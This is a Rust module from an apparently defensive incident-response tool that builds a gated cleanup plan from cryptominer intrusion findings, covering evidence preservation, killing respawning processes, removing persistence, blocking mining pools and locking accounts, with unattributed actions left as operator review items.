//! From findings to a plan: the driver. Only findings at medium or above count (allowlisted ones are
//! already at info). Each subject is taken by its role ([`super::collect`]); each artifact target gets a
//! gate ([`super::attribution`]): attributed targets are carried out by `--apply`, the rest become
//! numbered review items the operator names. Shared system files are never removed whole, pid 1 and the
//! collector are never signalled, evidence is never modified.
//!
//! - A file Redis wrote (RDB header) is the dump's from its first byte to its last: it is quarantined
//!   whole even under a shared file's name (a crontab, `authorized_keys`), and its lines are not edited.
//! - A symbolic link the attacker planted is removed while it is still the snapshot's link (same device,
//!   inode and target); links in system directories never are; one where a history belongs is a review item.
//! - Paths follow merged-`/usr` aliases to the record the snapshot holds (`/lib/x` is `/usr/lib/x`).
//! - A file in a system directory no package check covers is planned as a reinstall; the script removes
//!   it instead (after its evidence copy) when the host's package database says no package owns it.
//! - An authorized key is removed unasked only when attributed; the last key that opens an account never
//!   without attribution (not even as a review item: it is left to the responder).
//! - An endpoint is blocked unasked only with pool evidence (a pool port or domain) and never when it is
//!   the host's infrastructure (resolvers, link-local, metadata, private addresses).

use std::collections::{BTreeMap, BTreeSet};

use minetrace_schemas::escape_bytes;
use minetrace_schemas::findings::{Finding, FindingsDocument, Role, Severity, Subject};
use minetrace_schemas::records::package::PackageVerdict;
use minetrace_schemas::RawBytes;

use super::attribution::{self, package_verified_process, Attribution};
use super::collect::{Attr, Basis, Collect, FileFate};
use super::kit_dirs::kit_dirs;
use super::plan::{
    Action, FileTarget, Gate, LineKind, LineRemoval, Plan, PlanItem, Recommendation, RespawnSet,
    ReviewItem, SetFile, SetProcess,
};
use super::targets::{add_why, why_of};
use crate::graph::AttackGraph;
use crate::indicators::{Indicators, Kind};
use crate::model::HostModel;

/// Findings at this severity or above are acted on (those below it never become actions).
pub const ACT_AT: Severity = Severity::Medium;

/// What decides the gates of one analysis.
struct Gates<'a> {
    model: &'a HostModel,
    iocs: &'a Indicators,
    graph: &'a AttackGraph,
    att: Attribution<'a>,
    network: attribution::HostNetwork,
}

impl Gates<'_> {
    /// Whether subject `sno` of finding `fno` is attributed to the intrusion, and the tie that says so.
    fn of(&self, (fno, sno): (usize, usize), f: &Finding, s: &Subject) -> (Attr, Option<String>) {
        let (model, iocs, graph, att, network) =
            (self.model, self.iocs, self.graph, &self.att, &self.network);
        let tie = att.tie(fno, sno, s);
        if let Subject::Endpoint { addr } = s {
            if let Some((ip, port)) = super::firewall::endpoint(addr) {
                if let Some(infra) = attribution::infrastructure(ip, network) {
                    return (
                        Attr::Review(format!(
                            "{infra}: never blocked unless the operator names it"
                        )),
                        tie,
                    );
                }
                let node = graph.subject_nodes.get(&(fno, sno)).copied();
                if attribution::pool_evidence(iocs, graph, node, port).is_none() {
                    return (
                        Attr::Review(
                            "no pool evidence (pool port or domain): a miner may be pointed at any host"
                                .into(),
                        ),
                        tie,
                    );
                }
            }
        }
        if let Subject::File { path, .. } = s {
            // A file Redis wrote whole (its RDB header is the judgement of its own bytes) is the dump's.
            let dump = model
                .file_aliased(path.as_bytes())
                .is_some_and(|r| super::targets::is_redis_dump(model, r));
            if attribution::in_key_dir(path.as_bytes()) && tie.is_none() && !dump {
                return (
                    Attr::Review(
                        "a file in a home's ~/.ssh or ~/.gnupg: removed unasked only when a kit process runs it"
                            .into(),
                    ),
                    None,
                );
            }
        }
        if let Subject::Account { name, .. } = s {
            // Locking an account stops whoever logs in with it: the operator's own (`passwd alice` after
            // a scan nobody tied to it), an application's. Unasked only for an account the intrusion made
            // (an extra uid 0) or one the brute-forcing address itself logged into with a password.
            let made = f.rule == crate::detect::rules::ACC_001.id;
            if !made && !model.brute_force.entered(name.as_bytes()) {
                return (
                    Attr::Review(
                        "an account is locked unasked only when the intrusion made it (MT-ACC-001) or the brute-forcing address logged into it with a password"
                            .into(),
                    ),
                    tie,
                );
            }
        }
        if package_verified_process(model, s) {
            return match tie {
                Some(t) => (Attr::Attributed, Some(t)),
                None => (
                    Attr::Review(
                        "its executable matches its package (or is a system file seen through a bind mount): only its name, command line or environment look wrong"
                            .into(),
                    ),
                    None,
                ),
            };
        }
        if f.severity >= Severity::High {
            return (Attr::Attributed, None);
        }
        match tie {
            Some(t) => (Attr::Attributed, Some(t)),
            None => (Attr::Review("rests on medium findings only".into()), None),
        }
    }
}

/// Numbers review items and hands out gates.
#[derive(Default)]
struct Reviews {
    items: Vec<ReviewItem>,
}

impl Reviews {
    /// The gate of a target on `basis`: `Apply` when attributed, else a new review item.
    fn gate(&mut self, basis: &Basis, title: String, target: String) -> Gate {
        if basis.attributed {
            return Gate::Apply;
        }
        let number = u32::try_from(self.items.len() + 1).unwrap_or(u32::MAX);
        self.items.push(ReviewItem {
            number,
            title,
            target,
            why: basis.why.clone(),
            reason: basis.review.clone(),
        });
        Gate::Review(vec![number])
    }

    /// The gate `--apply` uses for an action: the one decided for its target, or, when none was (a
    /// lookup that misses), a new review item saying so. Fails closed: never `Apply` by omission.
    fn decided(
        &mut self,
        gate: Option<&Gate>,
        title: &str,
        target: impl FnOnce() -> String,
    ) -> Gate {
        if let Some(g) = gate {
            return g.clone();
        }
        let number = u32::try_from(self.items.len() + 1).unwrap_or(u32::MAX);
        self.items.push(ReviewItem {
            number,
            title: title.into(),
            target: target(),
            why: Vec::new(),
            reason: vec![UNDECIDED.into()],
        });
        Gate::Review(vec![number])
    }
}

/// Why an action whose gate could not be decided is a review item.
const UNDECIDED: &str =
    "its gate could not be decided: carried out only when the operator names it";

/// Builds the plan for one analysis (the graph is the analysis's attack-trace graph).
pub fn build(
    model: &HostModel,
    iocs: &Indicators,
    doc: &FindingsDocument,
    graph: &AttackGraph,
) -> Plan {
    let mut c = Collect::new(model, iocs);
    let gates = Gates {
        model,
        iocs,
        graph,
        att: Attribution::new(model, doc, graph),
        network: attribution::HostNetwork::of(model),
    };
    let mut acted = 0;
    let mut worst = None;
    for (fno, f) in doc.findings.iter().enumerate() {
        if f.severity < ACT_AT {
            continue;
        }
        acted += 1;
        worst = worst.max(Some(f.severity));
        let why = why_of(f);
        for (sno, s) in f.subjects.iter().enumerate() {
            // How MT-EVA-001 judged a file's lock (its subject is context: other findings judge the
            // file): whether an edit sets the lock again (`lock_is_intrusions`).
            if f.rule == crate::detect::rules::EVA_001.id {
                c.lock_judged(model, &s.subject, f.severity);
            }
            // Context is never acted on and needs no gate (a graph walk): a file holding 50,000
            // flagged lines is the context of 50,000 findings (issue 18 case 7).
            if s.role == Role::Context {
                continue;
            }
            let (attr, tie) = gates.of((fno, sno), f, &s.subject);
            let attr = super::rename_back::gate(model, &s.subject, attr, tie.is_some());
            let mut basis = Basis::one(&why, &attr);
            if let (Some(t), Attr::Attributed) = (tie, &attr) {
                add_why(&mut basis.why, &format!("tied: {t}"));
            }
            c.subject_with_role(model, &s.subject, s.role, &basis);
        }
    }
    assemble(model, iocs, doc, c, acted, worst)
}

/// The kit as the respawning set knows it: the processes the plan kills (by pid) and the files it
/// removes or whose image it kills (by device and inode).
struct Kit {
    pids: BTreeSet<i32>,
    files: BTreeSet<(u64, u64)>,
}

impl Kit {
    /// The kit of a plan: the processes it kills, the files it quarantines, and the images of its
    /// processes that no file backs any more (deleted, memory-only).
    fn of_plan(model: &HostModel, c: &Collect) -> Kit {
        let mut kit = Kit {
            pids: c.procs.keys().map(|(pid, _)| *pid).collect(),
            files: BTreeSet::new(),
        };
        for (t, _, fate) in c.files.values() {
            if matches!(fate, FileFate::Quarantine) {
                kit.files.insert((t.dev, t.ino));
            }
        }
        for (pid, start) in c.procs.keys() {
            if let Some(e) = unbacked_image(model, *pid, *start) {
                kit.files.insert((e.file.dev, e.file.ino));
            }
        }
        kit
    }

    /// Whether the snapshot shows these bytes anywhere but in the kit: a package ships them (a verified
    /// package check or a packaged twin has this sha256), a process the plan does not kill runs them, or
    /// a file the plan does not remove holds them. Then only the kit's own inode of them identifies a
    /// member of the respawning set, never the bytes: a kit running a copy of the host's python3 (or
    /// perl, busybox, socat) would otherwise make every python3 on the host a member (review s4 #1).
    fn foreign_bytes(&self, model: &HostModel, sha256: &str) -> bool {
        let sha = Some(sha256);
        model
            .packages
            .iter()
            .any(|c| c.verdict == PackageVerdict::Match && c.actual_sha256.as_deref() == sha)
            || model.files.iter().any(|f| {
                f.sha256.as_deref() == sha
                    && (f.category == "packaged-twin" || !self.files.contains(&(f.dev, f.ino)))
            })
            || model.executables.iter().any(|e| {
                e.sha256.as_deref() == sha
                    && (!self.files.contains(&(e.file.dev, e.file.ino))
                        || e.pids.iter().any(|p| !self.pids.contains(p)))
            })
    }
}

/// Whether some of the lines are attributed and some only review items: then the file is edited line by
/// line (removing it whole would carry the attributed lines' gate over the others).
fn mixed_attribution(removals: &[(LineRemoval, Basis)]) -> bool {
    let attributed = removals.iter().filter(|(_, b)| b.attributed).count();
    attributed > 0 && attributed < removals.len()
}

/// Resolves line removals: a file removed whole needs no line surgery; a non-shared file left with
/// nothing that runs (blank lines, comments, plain settings) is the attacker's and is removed whole (a
/// review item when none of its lines is attributed), unless attributed and review-only lines are
/// mixed: then it is edited line by line, each line with its own gate; the last key that opens an
/// account is removed only when attributed.
fn resolve_lines(
    model: &HostModel,
    c: &mut Collect,
) -> Vec<(FileTarget, Vec<(LineRemoval, Basis)>)> {
    let mut edits = Vec::new();
    for (path, wanted) in std::mem::take(&mut c.lines) {
        if c.files.contains_key(&path) {
            continue;
        }
        match super::collect::line_edit(model, &c.places, &path, &wanted) {
            Ok(e)
                if e.leaves_inert
                    && !c.places.is_shared_file(&path)
                    && !mixed_attribution(&e.removals) =>
            {
                let mut basis = Basis::default();
                for (_, b) in &e.removals {
                    basis.merge(b);
                }
                c.whole_file(model, &e.target.path, &basis);
                if !c.files.contains_key(&path) {
                    edits.push((e.target, e.removals));
                }
            }
            Ok(mut e) => {
                let is_key = |r: &LineRemoval| matches!(r.kind, LineKind::SshKey { .. });
                if e.keys_left == 0 && e.removals.iter().any(|(r, _)| is_key(r)) {
                    // The last key that opens the account: only an attributed removal takes it.
                    for (r, b) in &e.removals {
                        if is_key(r) && !b.attributed {
                            c.manual(
                                format!("line {} of {}", r.number, e.target.path.escaped()),
                                "the last key that opens this account and nothing attributes it to the intrusion: remove it by hand if it is not the owner's",
                            );
                        }
                    }
                    e.removals.retain(|(r, b)| !is_key(r) || b.attributed);
                }
                if !e.removals.is_empty() {
                    edits.push((e.target, e.removals));
                }
            }
            Err(reason) => {
                let numbers: Vec<String> = wanted.keys().map(u32::to_string).collect();
                c.manual(
                    format!("lines {} of {}", numbers.join(","), escape_bytes(&path)),
                    reason,
                );
            }
        }
    }
    // A shared file a finding names whole, with no flagged line removed from it: left to the responder.
    for (path, label) in std::mem::take(&mut c.shared) {
        if !edits
            .iter()
            .any(|(t, _)| t.path.as_bytes() == path.as_slice())
        {
            c.manual(
                label,
                "a shared file is never removed whole (flagged lines in it are removed one by one)",
            );
        }
    }
    edits
}

/// One planned action with its reasons and gate, before it is numbered.
type Listed = (Action, Vec<String>, Gate);

/// A file losing lines: the file, its line removals (each gated), the reasons, and the gate of the edit
/// (open when any of its lines' gates is).
type EditItem = (FileTarget, Vec<LineRemoval>, Vec<String>, Gate);

/// Numbered plan items from the collected targets, in stage order: first every target's gate (so review
/// numbers follow the targets, not the actions), then the actions stage by stage — preserve, freeze,
/// the respawning set, persistence, kill, contain, repair, verify — and the recommendations.
fn assemble(
    model: &HostModel,
    iocs: &Indicators,
    doc: &FindingsDocument,
    mut c: Collect,
    acted: usize,
    worst: Option<Severity>,
) -> Plan {
    super::units::resolve(model, iocs, &doc.findings, &mut c);
    super::apt_hooks::resolve(model, &mut c);
    let edits = resolve_lines(model, &mut c);
    let edited: BTreeSet<Vec<u8>> = edits.iter().map(|(t, _)| t.path.0.clone()).collect();
    let restarts = super::restarts::resolve(model, doc, ACT_AT, &edited, &mut c);
    let mut reviews = Reviews::default();
    let gates = TargetGates::decide(&c, edits, &mut reviews);
    let mut l = Listing {
        reviews,
        gates,
        items: Vec::new(),
    };
    let preserved = preserve(&c, &mut l);
    freeze(&c, &mut l);
    let set = respawn_set(model, &c, &mut l);
    let (rewrites_preload, repairs) = remove_persistence(model, &mut c, &mut l, &preserved);
    kill(&c, &mut l, set);
    contain(&c, &mut l);
    repair(&c, &mut l, repairs);
    // Restarting a host service is a review item of its own, after everything it would reload is gone.
    for (r, b) in restarts.into_values() {
        let a = Action::RestartService(r);
        let gate = l
            .reviews
            .gate(&b, "restart the host's service".into(), a.target());
        l.push(a, b.why, gate);
    }
    let acting = l.push(Action::Verify, Vec::new(), Gate::Apply) > 1;
    let recommendations = recommendations(model, doc, &mut c, rewrites_preload, acting, acted);
    Plan {
        host: doc.host.clone(),
        bundle_sha256: doc.bundle_sha256.clone(),
        collected_at: model.manifest.ended_at.clone(),
        analyzer_version: doc.analyzer_version.clone(),
        items: l.items,
        reviews: l.reviews.items,
        recommendations,
        manual: c.manual.into_iter().collect(),
        findings_used: acted,
        worst,
        admin_groups: iocs
            .set(Kind::AdminGroup)
            .map(|g| g.as_bytes().to_vec())
            .collect(),
    }
}

/// The gate of every target, decided once before any action is listed: a target's actions (preserve,
/// freeze, kill; quarantine, respawn-set member) share its one review item. Numbered in this order:
/// processes, edited files (line by line), whole files, links, firewall rules, endpoints, accounts.
struct TargetGates {
    procs: BTreeMap<(i32, u64), Gate>,
    edits: Vec<EditItem>,
    files: BTreeMap<Vec<u8>, Gate>,
    links: BTreeMap<Vec<u8>, Gate>,
    rules: BTreeMap<Vec<u8>, Gate>,
    endpoints: BTreeMap<(std::net::IpAddr, u16), Gate>,
    accounts: BTreeMap<Vec<u8>, Gate>,
}

impl TargetGates {
    fn decide(
        c: &Collect,
        edits: Vec<(FileTarget, Vec<(LineRemoval, Basis)>)>,
        reviews: &mut Reviews,
    ) -> TargetGates {
        let procs = c
            .procs
            .iter()
            .map(|(k, (t, b))| {
                let a = Action::Kill(t.clone());
                (
                    *k,
                    reviews.gate(b, "freeze and kill the process".into(), a.target()),
                )
            })
            .collect();
        let edits = edits
            .into_iter()
            .map(|(target, removals)| edit_item(target, removals, reviews))
            .collect();
        let files = c
            .files
            .iter()
            .map(|(k, (t, b, fate))| {
                let title = match fate {
                    FileFate::Unit(_) => "stop, disable and remove the unit",
                    FileFate::Quarantine => "quarantine the file",
                    FileFate::Reinstall(_) => "reinstall the replaced file's package",
                    FileFate::RenameBack(_) => "move the tool back to its package path",
                };
                (k.clone(), reviews.gate(b, title.into(), t.path.escaped()))
            })
            .collect();
        let links = c
            .links
            .iter()
            .map(|(k, (t, b))| {
                let a = Action::RemoveLink(t.clone());
                (
                    k.clone(),
                    reviews.gate(b, "remove the symbolic link".into(), a.target()),
                )
            })
            .collect();
        let rules = c
            .rules
            .iter()
            .map(|(k, (_, _, _, b))| {
                (
                    k.clone(),
                    reviews.gate(
                        b,
                        "delete the firewall rule".into(),
                        RawBytes::from(k.clone()).escaped(),
                    ),
                )
            })
            .collect();
        let endpoints = c
            .endpoints
            .iter()
            .map(|(k, b)| {
                let a = Action::BlockEndpoint { ip: k.0, port: k.1 };
                (*k, reviews.gate(b, "block the endpoint".into(), a.target()))
            })
            .collect();
        let accounts = c
            .accounts
            .iter()
            .map(|(k, (_, b))| {
                (
                    k.clone(),
                    reviews.gate(
                        b,
                        "lock and expire the account".into(),
                        RawBytes::from(k.clone()).escaped(),
                    ),
                )
            })
            .collect();
        TargetGates {
            procs,
            edits,
            files,
            links,
            rules,
            endpoints,
            accounts,
        }
    }

    /// The gate of destroying anything at all (the union of every target's gate), or `None` when nothing
    /// is destroyed: evidence is copied under it.
    fn destroy_gate(&self) -> Option<Gate> {
        self.procs
            .values()
            .chain(self.files.values())
            .chain(self.links.values())
            .chain(self.rules.values())
            .chain(self.endpoints.values())
            .chain(self.accounts.values())
            .chain(self.edits.iter().map(|e| &e.3))
            .fold(None, |acc: Option<Gate>, g| {
                Some(acc.map_or_else(|| g.clone(), |a| a.or(g)))
            })
    }
}

/// Gates each line an edit removes (an attacker's key goes with `--apply`, a medium-only line beside it
/// only when named); the edit's gate is the union of its lines'.
fn edit_item(
    target: FileTarget,
    removals: Vec<(LineRemoval, Basis)>,
    reviews: &mut Reviews,
) -> EditItem {
    let mut lines = Vec::new();
    let mut why = Vec::new();
    let mut gate: Option<Gate> = None;
    for (mut r, b) in removals {
        let title = match r.kind {
            LineKind::SshKey { .. } => "remove the authorized key",
            LineKind::Line => "remove the line",
        };
        let text = format!(
            "{} line {}: {}",
            target.path.escaped(),
            r.number,
            r.bytes.escaped()
        );
        r.gate = reviews.gate(&b, title.into(), text);
        gate = Some(gate.map_or(r.gate.clone(), |g| g.or(&r.gate)));
        for w in &r.why {
            add_why(&mut why, w);
        }
        lines.push(r);
    }
    let gate = match gate {
        Some(g) => g,
        None => reviews.decided(None, "remove the lines", || target.path.escaped()),
    };
    (target, lines, why, gate)
}

/// The plan's items and review items while [`assemble`] lists the actions, stage by stage.
struct Listing {
    reviews: Reviews,
    gates: TargetGates,
    items: Vec<PlanItem>,
}

impl Listing {
    /// Appends an action; returns its 1-based item number.
    fn push(&mut self, action: Action, why: Vec<String>, gate: Gate) -> usize {
        self.items.push(PlanItem { action, why, gate });
        self.items.len()
    }

    /// The gate decided for a process (fails closed: a review item if none was).
    fn proc_gate(&mut self, k: &(i32, u64), t: &super::plan::ProcessTarget) -> Gate {
        self.reviews.decided(
            self.gates.procs.get(k),
            "freeze and kill the process",
            || Action::Kill(t.clone()).target(),
        )
    }

    /// The gate decided for a whole file (fails closed: a review item if none was).
    fn file_gate(&mut self, k: &Vec<u8>, t: &FileTarget) -> Gate {
        self.reviews
            .decided(self.gates.files.get(k), "quarantine the file", || {
                t.path.escaped()
            })
    }
}

/// Preserve before anything is destroyed: the processes, then every file a later action changes (gated
/// like the union of its users), then evidence — when anything at all is destroyed, with the apply gate
/// when anything is destroyed unasked, else the union of the review gates. Files are numbered in path
/// order; returns each preserved file's item number (what its removal names as its evidence copy).
fn preserve(c: &Collect, l: &mut Listing) -> BTreeMap<Vec<u8>, usize> {
    for (k, (target, b)) in &c.procs {
        let gate = l.proc_gate(k, target);
        l.push(Action::PreserveProcess(target.clone()), b.why.clone(), gate);
    }
    let mut preserve_gate: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, Gate)> = BTreeMap::new();
    let mut need = |t: &FileTarget, why: &[String], gate: &Gate| {
        let e = preserve_gate
            .entry(t.path.0.clone())
            .or_insert_with(|| (t.clone(), Vec::new(), gate.clone()));
        e.2 = e.2.or(gate);
        for w in why {
            add_why(&mut e.1, w);
        }
    };
    for (t, _, why, gate) in &l.gates.edits {
        need(t, why, gate);
    }
    for (k, (t, b, _)) in &c.files {
        need(t, &b.why, &l.file_gate(k, t));
    }
    if let Some(destroy_gate) = l.gates.destroy_gate() {
        for (t, b) in c.evidence.values() {
            need(t, &b.why, &destroy_gate);
        }
    }
    let mut preserved: BTreeMap<Vec<u8>, usize> = BTreeMap::new();
    for (path, (t, why, gate)) in preserve_gate {
        let n = l.push(Action::PreserveFile(t), why, gate);
        preserved.insert(path, n);
    }
    preserved
}

/// Freeze the processes (SIGSTOP), so that removing their persistence cannot make them respawn it.
fn freeze(c: &Collect, l: &mut Listing) {
    for (k, (target, b)) in &c.procs {
        let gate = l.proc_gate(k, target);
        l.push(Action::Freeze(target.clone()), b.why.clone(), gate);
    }
}

/// The respawning set, found again at run time: the processes the plan kills and whatever runs a kit
/// file or runs one as its script (a watchdog restarted since the snapshot has another pid). Frozen now
/// (its freeze is listed here); returned with its reasons and gate for the kill, `None` when it holds no
/// process.
fn respawn_set(
    model: &HostModel,
    c: &Collect,
    l: &mut Listing,
) -> Option<(RespawnSet, Vec<String>, Gate)> {
    let mut set_why = Vec::new();
    let mut set = RespawnSet {
        procs: Vec::new(),
        files: Vec::new(),
        package_dirs: c.places.package_dirs(),
    };
    let kit = Kit::of_plan(model, c);
    for (k, (t, b)) in &c.procs {
        for w in &b.why {
            add_why(&mut set_why, w);
        }
        set.procs.push(SetProcess {
            pid: t.pid,
            start_ticks: t.start_ticks,
            gate: l.proc_gate(k, t),
        });
        // A running image no file action covers (deleted, memory-only) is known by identity and bytes.
        if let Some(e) = unbacked_image(model, t.pid, t.start_ticks) {
            set.files.push(SetFile {
                dev: e.file.dev,
                ino: e.file.ino,
                path: e.path.clone(),
                content: e
                    .sha256
                    .clone()
                    .filter(|h| !kit.foreign_bytes(model, h))
                    .map(|h| (e.size, h)),
                gate: l.proc_gate(k, t),
            });
        }
    }
    for (k, (t, _, fate)) in &c.files {
        if matches!(fate, FileFate::Quarantine) {
            set.files.push(SetFile {
                dev: t.dev,
                ino: t.ino,
                path: t.path.clone(),
                content: (!kit.foreign_bytes(model, &t.sha256)).then(|| (t.size, t.sha256.clone())),
                gate: l.file_gate(k, t),
            });
        }
    }
    let gate = set.gate().filter(|_| !set.procs.is_empty())?;
    l.push(
        Action::FreezeSet(set.clone()),
        set_why.clone(),
        gate.clone(),
    );
    Some((set, set_why, gate))
}

/// The executable a planned process (`pid` started at `start_ticks`) runs when no file backs it any more
/// (deleted or memory-only): known by identity and bytes.
fn unbacked_image(
    model: &HostModel,
    pid: i32,
    start_ticks: u64,
) -> Option<&minetrace_schemas::records::executable::ExecutableRecord> {
    model
        .process(pid)
        .filter(|p| p.start_ticks == start_ticks)
        .and_then(|p| model.executable_of(p))
        .filter(|e| e.deleted || e.memfd)
}

/// What the whole-file fates turn into: unit removals, quarantines (with the quarantined files' gates,
/// by path, for the kit directories) and package reinstalls (listed later, under repair).
#[derive(Default)]
struct FileActions {
    units: Vec<Listed>,
    quarantines: Vec<Listed>,
    members: BTreeMap<Vec<u8>, Gate>,
    repairs: Vec<Listed>,
}

fn file_actions(
    model: &HostModel,
    c: &Collect,
    l: &mut Listing,
    preserved: &BTreeMap<Vec<u8>, usize>,
) -> FileActions {
    let mut out = FileActions::default();
    for (k, (t, b, fate)) in &c.files {
        let gate = l.file_gate(k, t);
        let preserved = preserved.get(k).copied().unwrap_or(0);
        match fate {
            FileFate::Unit(unit) => out.units.push((
                Action::RemoveUnit {
                    unit: unit.clone(),
                    file: t.clone(),
                    preserved,
                },
                b.why.clone(),
                gate,
            )),
            FileFate::Quarantine => {
                out.members.insert(k.clone(), gate.clone());
                out.quarantines.push((
                    Action::QuarantineFile {
                        file: t.clone(),
                        preserved,
                    },
                    b.why.clone(),
                    gate,
                ));
            }
            FileFate::RenameBack(back) => out.repairs.push((
                Action::RenameBack {
                    file: t.clone(),
                    back: back.clone(),
                    preserved,
                },
                b.why.clone(),
                gate,
            )),
            FileFate::Reinstall(pkg) => out.repairs.push((
                Action::Reinstall {
                    file: t.clone(),
                    package: pkg.clone(),
                    manager: model.package_manager(),
                    preserved,
                },
                b.why.clone(),
                gate,
            )),
        }
    }
    out
}

/// A kit directory goes once its files are quarantined (`members`: their gates by path): unasked when
/// each of them goes unasked, else when the operator names the review items of those that do not.
fn kit_dir_actions(
    model: &HostModel,
    c: &Collect,
    members: &BTreeMap<Vec<u8>, Gate>,
) -> Vec<Listed> {
    let mut out = Vec::new();
    let quarantined: BTreeSet<Vec<u8>> = members.keys().cloned().collect();
    for dirs in kit_dirs(model, c.places.paths(), &quarantined) {
        let Some(top) = dirs.last() else { continue };
        let prefix = [top.path.as_bytes(), b"/"].concat();
        let mut why = Vec::new();
        let mut numbers: Vec<u32> = Vec::new();
        for (path, (_, b, _)) in c
            .files
            .range(prefix.clone()..)
            .take_while(|(k, _)| k.starts_with(&prefix))
        {
            for w in &b.why {
                add_why(&mut why, w);
            }
            if let Some(Gate::Review(v)) = members.get(path) {
                numbers.extend(v);
            }
        }
        numbers.sort_unstable();
        numbers.dedup();
        let gate = if numbers.is_empty() {
            Gate::Apply
        } else {
            Gate::Review(numbers)
        };
        out.push((Action::RemoveKitDir { dirs }, why, gate));
    }
    out
}

/// The line edits, each with the lock policy of its file (whether the lock is set again after the edit;
/// a note for the responder when it is not clear).
fn line_edit_actions(
    model: &HostModel,
    c: &mut Collect,
    edits: Vec<EditItem>,
    preserved: &BTreeMap<Vec<u8>, usize>,
) -> Vec<Listed> {
    let mut notes: Vec<(String, &str)> = Vec::new();
    let out = edits
        .into_iter()
        .map(|(t, lines, why, gate)| {
            let preserved = preserved.get(t.path.as_bytes()).copied().unwrap_or(0);
            let attributed = lines.iter().any(|l| l.gate == Gate::Apply);
            let (locks, lock_notes) =
                super::locks::policy(model, &c.locks, t.path.as_bytes(), attributed);
            for note in lock_notes {
                notes.push((format!("file {}", t.path.escaped()), note));
            }
            (
                Action::RemoveLines {
                    file: t,
                    lines,
                    preserved,
                    locks,
                },
                why,
                gate,
            )
        })
        .collect();
    for (what, note) in notes {
        c.manual(what, note);
    }
    out
}

/// Whether an action rewrites the loader's preload list.
fn edits_preload(a: &Action) -> bool {
    matches!(a, Action::RemoveLines { file, .. } if file.path.as_bytes() == b"/etc/ld.so.preload")
}

/// Remove persistence while the kit is frozen: the loader's preload list first (every tool the script
/// runs afterwards loads what it names), then units, line edits, quarantines and kit directories, links.
/// Returns whether the preload list is rewritten (a reason to rebuild) and the reinstalls, which are
/// listed under repair.
fn remove_persistence(
    model: &HostModel,
    c: &mut Collect,
    l: &mut Listing,
    preserved: &BTreeMap<Vec<u8>, usize>,
) -> (bool, Vec<Listed>) {
    let files = file_actions(model, c, l, preserved);
    let mut quarantines = files.quarantines;
    quarantines.extend(kit_dir_actions(model, c, &files.members));
    let mut edits = line_edit_actions(model, c, std::mem::take(&mut l.gates.edits), preserved);
    let mut persistence: Vec<Listed> = Vec::new();
    if let Some(i) = edits.iter().position(|(a, _, _)| edits_preload(a)) {
        persistence.push(edits.remove(i));
    }
    persistence.extend(files.units);
    persistence.extend(edits);
    persistence.extend(quarantines);
    for (k, (target, b)) in &c.links {
        let gate = l
            .reviews
            .decided(l.gates.links.get(k), "remove the symbolic link", || {
                Action::RemoveLink(target.clone()).target()
            });
        persistence.push((Action::RemoveLink(target.clone()), b.why.clone(), gate));
    }
    let rewrites_preload = persistence.iter().any(|(a, _, _)| edits_preload(a));
    for (a, why, gate) in persistence {
        l.push(a, why, gate);
    }
    (rewrites_preload, files.repairs)
}

/// Kill the frozen processes, then the respawning set as found at run time.
fn kill(c: &Collect, l: &mut Listing, set: Option<(RespawnSet, Vec<String>, Gate)>) {
    for (k, (target, b)) in &c.procs {
        let gate = l.proc_gate(k, target);
        l.push(Action::Kill(target.clone()), b.why.clone(), gate);
    }
    if let Some((set, why, gate)) = set {
        l.push(Action::KillSet(set), why, gate);
    }
}

/// Contain: the attacker's firewall rules go, then the pools are blocked.
fn contain(c: &Collect, l: &mut Listing) {
    for (rule, (args, family, tables, b)) in &c.rules {
        let gate = l
            .reviews
            .decided(l.gates.rules.get(rule), "delete the firewall rule", || {
                RawBytes::from(rule.clone()).escaped()
            });
        l.push(
            Action::DeleteFirewallRule {
                rule: RawBytes::from(rule.clone()),
                args: args.iter().cloned().map(RawBytes::from).collect(),
                family: *family,
                tables: tables.clone(),
            },
            b.why.clone(),
            gate,
        );
    }
    for ((ip, port), b) in &c.endpoints {
        let block = Action::BlockEndpoint {
            ip: *ip,
            port: *port,
        };
        let gate = l.reviews.decided(
            l.gates.endpoints.get(&(*ip, *port)),
            "block the endpoint",
            || block.target(),
        );
        l.push(block, b.why.clone(), gate);
    }
}

/// Repair: reinstall the packages whose files were replaced, lock the accounts.
fn repair(c: &Collect, l: &mut Listing, reinstalls: Vec<Listed>) {
    for (a, why, gate) in reinstalls {
        l.push(a, why, gate);
    }
    for (name, (uid, b)) in &c.accounts {
        let gate = l.reviews.decided(
            l.gates.accounts.get(name),
            "lock and expire the account",
            || RawBytes::from(name.clone()).escaped(),
        );
        l.push(
            Action::LockAccount {
                name: RawBytes::from(name.clone()),
                uid: *uid,
            },
            b.why.clone(),
            gate,
        );
    }
}

/// What the operator should do beyond the script: rebuild when cleaning in place cannot be trusted (a
/// rootkit's signs), care with a tampered bundle, and — when the plan acts or `acted` findings (medium
/// or above) were used — rotate credentials, verify again later, reboot last.
fn recommendations(
    model: &HostModel,
    doc: &FindingsDocument,
    c: &mut Collect,
    rewrites_preload: bool,
    acting: bool,
    acted: usize,
) -> Vec<Recommendation> {
    let mut recommendations = Vec::new();
    if !model.host.hidden_pids.is_empty() {
        c.rebuild_why
            .insert(format!("{} hidden pids", model.host.hidden_pids.len()));
    }
    if !model.host.proc_bind_mounts.is_empty() {
        c.rebuild_why.insert("bind mounts over /proc/PID".into());
    }
    if rewrites_preload {
        c.rebuild_why.insert("an /etc/ld.so.preload entry".into());
    }
    if doc.tampered {
        recommendations.push(Recommendation {
            text:
                "treat this plan with care: the bundle failed verification and was analysed anyway"
                    .into(),
            why: "tampered bundle".into(),
        });
    }
    if !c.rebuild_why.is_empty() {
        recommendations.push(Recommendation {
            text: "rebuild this host from known-good media: a rootkit can hide what this script checks, and cleaning in place cannot be trusted".into(),
            why: c.rebuild_why.iter().cloned().collect::<Vec<_>>().join(", "),
        });
    }
    if acting || acted > 0 {
        recommendations.push(Recommendation {
            text: "rotate every credential this host held or saw: account passwords, SSH keys and authorized_keys of every account, API tokens, cloud keys".into(),
            why: format!("{acted} finding(s) at medium or above"),
        });
        recommendations.push(Recommendation {
            text: "run this script with --verify again after 1 to 4 hours (by hand, not from cron), then collect and analyse again: what the snapshot did not see is not in this plan".into(),
            why: "miners come back through droppers and credentials the snapshot did not show".into(),
        });
        recommendations.push(Recommendation {
            text: "reboot only after --verify passes and any memory evidence you need is saved; verify again after the reboot".into(),
            why: "a reboot destroys running state".into(),
        });
    }
    recommendations
}

#[cfg(test)]
mod tests {
    use super::super::plan::{plan_lines, LinkTarget};
    use super::*;
    use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
    use crate::model::fixture;
